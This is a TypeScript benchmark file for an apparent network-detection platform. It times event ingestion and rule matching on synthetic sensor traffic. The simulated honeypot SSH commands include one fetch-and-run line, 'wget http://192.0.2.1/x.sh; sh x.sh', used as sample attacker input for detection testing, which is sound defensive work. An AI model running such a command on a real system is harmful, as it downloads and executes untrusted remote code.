/**
 * Events through normalise, stream, detect and store in one process, started as the launcher starts the platform: a mix of background and
 * of decoy sessions, from many sources. Done when every event is analysed and stored.
 */
import { execFile } from 'node:child_process';
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { promisify } from 'node:util';
import type { SensorEvent } from '@netsentinel/contracts/event';
import { systemClock } from '@netsentinel/kernel/clock';
import { Behaviours } from '@netsentinel/detect/behaviour/behaviours';
import { silentLogger } from '@netsentinel/kernel/log';
import { sealedRecords } from '@netsentinel/kernel/event-record';
import { passingKeyring } from '@netsentinel/kernel/keyring';
import { SealedTexts } from '@netsentinel/kernel/sealed-text';
import { normaliseSensorEvent } from '@netsentinel/normalise/decoy/decoy.parser';
import { compilePolicy } from '@netsentinel/respond/engine';
import { RespondConfig } from '@netsentinel/respond/respond.config';
import { openDuckDbEventStore } from '@netsentinel/store/events/duckdb/duckdb-events.store';
import { openSqliteStateStore } from '@netsentinel/store/state/sqlite/sqlite-state.store';
import { openEmbeddedStream } from '@netsentinel/stream/embedded/embedded-stream';
import { StreamConfig } from '@netsentinel/stream/stream.config';
import { sample } from '@netsentinel/sigma/bench/sigma.bench';
import { readRules } from '@netsentinel/sigma/read/read-rules';
import type { Rule, RuleSet } from '@netsentinel/sigma/rule';
import { readRuleFiles } from '../hunt/rule-files.ts';
import { readEcsPipelines } from '../rules/ecs-pipelines.ts';
import { SubjectWatch } from '@netsentinel/detect/subjects/subject-watch';
import { EventJudge } from '../rules/event-judge.ts';
import { CompiledEventRules } from '../rules/event-rules.ts';
import { withSubjects } from '../rules/watched-subjects.ts';
import { createAnalysis } from '../platform/analysis.ts';
import { createCorrelation } from '../platform/correlation.ts';
import { HOME } from '../cli/settings.ts';
import { codeCacheFolder } from '../launcher/code-cache.ts';
import { PLATFORM_OPTIONS } from '../launcher/confinements.ts';
import { environment } from '../launcher/sandbox.ts';
import { startStoreWriter } from '../platform/store-writer.ts';
import { residentBytes } from './whole-product.ts';

const CONTENT = join(HOME, 'content');
const OWN_RULES = join(CONTENT, 'rules');
const SAMPLED_RULES = 300;
const BATCH = 500;
/** Events that may be ahead of the slower consumer: as a full stream would, we wait then. */
const MAX_AHEAD = 50_000;
const SOURCES = 5_000;
/** Batches sent and not yet acknowledged, as sensors have them. */
const UNDER_WAY = 4;
const SAMPLE_MS = 200;

/** @param options.rules a folder of Sigma rules, of which 300 for network and Linux events are on beside those that come with the product */
export async function benchIngest(options: {
  events: number;
  rules?: string | undefined;
}): Promise<Record<string, number>> {
  return (await ingestWatched(options.events, options.rules)).result;
}

/** What the run says, and the memory of its process (bytes resident) from its beginning to its end, five times a second. */
export interface WatchedIngest {
  readonly result: Record<string, number>;
  readonly resident: readonly number[];
}

export async function ingestWatched(events: number, rules = ''): Promise<WatchedIngest> {
  const { stdout } = await promisify(execFile)(
    process.execPath,
    [...PLATFORM_OPTIONS, import.meta.filename, String(events), rules],
    { env: environment(codeCacheFolder(HOME)), maxBuffer: 64 * 1024 * 1024 },
  );
  return JSON.parse(stdout) as WatchedIngest;
}

async function ingest(total: number, ruleFolder: string): Promise<WatchedIngest> {
  const folder = mkdtempSync(join(tmpdir(), 'netsentinel-ingest-'));
  const clock = systemClock;
  const log = silentLogger;
  const keys = passingKeyring();
  const records = sealedRecords(new SealedTexts(keys));
  const state = await openSqliteStateStore({ file: join(folder, 'state.db'), sealer: keys, log, clock });
  const store = await openDuckDbEventStore({ directory: join(folder, 'events'), keys, log, clock });
  const stream = await openEmbeddedStream({ directory: join(folder, 'stream'), ...StreamConfig.parse({}), clock, log });
  let incidents = 0;
  const rules = await readRulesOf(ruleFolder);
  const eventRules = new CompiledEventRules(OWN_RULES);
  eventRules.use(rules);
  const subjects = new SubjectWatch({ placeOf: undefined });
  const correlation = createCorrelation({
    open: () => openEmbeddedStream({ directory: join(folder, 'correlation'), partitions: 4, clock, log }),
    exists: false,
    state,
    clock,
    log,
    subjects,
    fold: (findings, write) => analysis.addFindings(findings, write),
  });
  correlation.use(rules);
  const analysis = createAnalysis({
    stream,
    records,
    rules: withSubjects(new EventJudge(eventRules, new Behaviours()), subjects),
    correlate: (seen) => correlation.take(seen),
    state,
    clock,
    log,
    policy: compilePolicy(RespondConfig.parse({})),
    onIncident: () => incidents++,
    onAction: () => {},
  });
  const writer = await startStoreWriter({ stream, store, clock, log });
  await analysis.start();
  const resident: number[] = [];
  const watch = setInterval(() => resident.push(residentBytes(process.pid)), SAMPLE_MS);
  try {
    const started = performance.now();
    const cpu = process.cpuUsage();
    const underWay: Promise<unknown>[] = [];
    const done = (): number => Math.min(writer.stored, analysis.counters.events);
    for (let sequence = 1; sequence <= total;) {
      const batch = [];
      for (; batch.length < BATCH && sequence <= total; sequence++) {
        const result = normaliseSensorEvent(sampleEvent(sequence), {
          sensor: { id: 'bench', type: 'bench' },
          epoch: 'bench0001',
          sequence,
          receivedAt: clock.now(),
          sourceVerified: true,
        });
        const event = result.ok ? result.value : result.error;
        batch.push({
          key: event.netsentinel.actor,
          origin: { producer: 'bench', epoch: 'bench0001', sequence },
          value: records.encode(event),
        });
      }
      underWay.push(stream.append(batch));
      if (underWay.length >= UNDER_WAY) await underWay.shift();
      while (sequence - done() > MAX_AHEAD) await new Promise((resolve) => setTimeout(resolve, 2));
    }
    await Promise.all(underWay);
    while (done() < total) await new Promise((resolve) => setTimeout(resolve, 5));
    const seconds = (performance.now() - started) / 1000;
    const { user, system } = process.cpuUsage(cpu);
    const kept = await store.describe();
    const result = {
      events: total,
      rules: eventRules.rules.length,
      events_per_second: Math.round(total / seconds),
      cpu_us_per_event: Math.round(((user + system) / total) * 10) / 10,
      rss_mb: Math.round(resident.reduce((most, bytes) => Math.max(most, bytes), 0) / 1024 / 1024),
      stored: kept.events,
      analysed: analysis.counters.events,
      failures: analysis.counters.failures,
      detections: analysis.counters.detections,
      incident_changes: incidents,
      bytes_per_event: Math.round(kept.bytes / Math.max(1, kept.events)),
    };
    return { result, resident };
  } finally {
    clearInterval(watch);
    await analysis.stop();
    await correlation.stop();
    await writer.stop();
    await Promise.all([correlation.stream?.close(), stream.close(), store.close(), state.close()]);
    rmSync(folder, { recursive: true, force: true });
  }
}

/** Those that come with the product, and a seeded 300 of the folder's that are for network and Linux events. */
async function readRulesOf(folder: string): Promise<RuleSet> {
  const options = { pipelines: await readEcsPipelines(CONTENT) };
  const own = readRules(await readRuleFiles([OWN_RULES]), options);
  if (folder === '') return own;
  const others = readRules(await readRuleFiles([folder]), options).rules.filter(isForNetworkOrLinux);
  return { ...own, rules: [...own.rules, ...sample(others, SAMPLED_RULES, 1)] };
}

function isForNetworkOrLinux({ logsource: { product, category } }: Rule): boolean {
  if (product !== undefined) return ['linux', 'zeek', 'cisco', 'juniper', 'fortios', 'huawei'].includes(product);
  return ['dns', 'firewall', 'proxy', 'webserver', 'network_connection'].includes(category ?? '');
}

/** 1 in 50 is an attacker's move at a decoy, the rest is the background that sensors see. The same number is the same event. */
export function sampleEvent(n: number): SensorEvent {
  const time = new Date(1_795_000_000_000 + n * 7).toISOString();
  const source = {
    ip: `198.${18 + (((n * 7919) % SOURCES) >> 12)}.${(((n * 7919) % SOURCES) >> 4) & 255}.${(n * 7919) & 15}`,
    port: 1024 + (n % 60_000),
  };
  const destination = { ip: '203.0.113.9', port: 22 };
  if (n % 50 === 0) {
    const commands = [
      'uname -a',
      'cat /proc/cpuinfo | grep name | wc -l',
      'cd /tmp; wget http://192.0.2.1/x.sh; sh x.sh',
      'ls -la',
      'free -m',
      'w',
    ];
    return {
      '@timestamp': time,
      event: {
        kind: 'event',
        category: ['process'],
        type: ['start'],
        action: 'ssh-command',
        dataset: 'netsentinel.ssh',
        module: 'netsentinel',
      },
      source,
      destination,
      network: { transport: 'tcp', protocol: 'ssh', type: 'ipv4' },
      process: { command_line: commands[n % commands.length]! },
      user: { name: 'root' },
      netsentinel: { decoy: { id: 'ssh-1', type: 'ssh' }, session: { id: `bench~${n % 997}`, sequence: n } },
    };
  }
  return {
    '@timestamp': time,
    event: {
      kind: 'event',
      category: ['network'],
      type: ['connection', 'end'],
      action: 'connection-finished',
      outcome: 'success',
      dataset: 'zeek.connection',
      module: 'zeek',
      duration: (n % 10_000) * 1_000_000,
    },
    source: { ...source, bytes: n % 4096, packets: n % 40 },
    destination: { ...destination, port: [443, 80, 53, 22, 3389][n % 5]!, bytes: n % 65_536, packets: n % 60 },
    network: {
      transport: n % 5 === 2 ? 'udp' : 'tcp',
      protocol: ['tls', 'http', 'dns', 'ssh', 'rdp'][n % 5]!,
      type: 'ipv4',
      direction: 'inbound',
      bytes: n % 70_000,
      community_id: `1:${(n * 2654435761) % 2 ** 32}`,
    },
    message: `connection ${n} finished normally after ${n % 10_000} ms with history ShADadFf`,
  };
}

if (import.meta.main)
  process.stdout.write(JSON.stringify(await ingest(Number(process.argv[2]), process.argv[3] ?? '')));
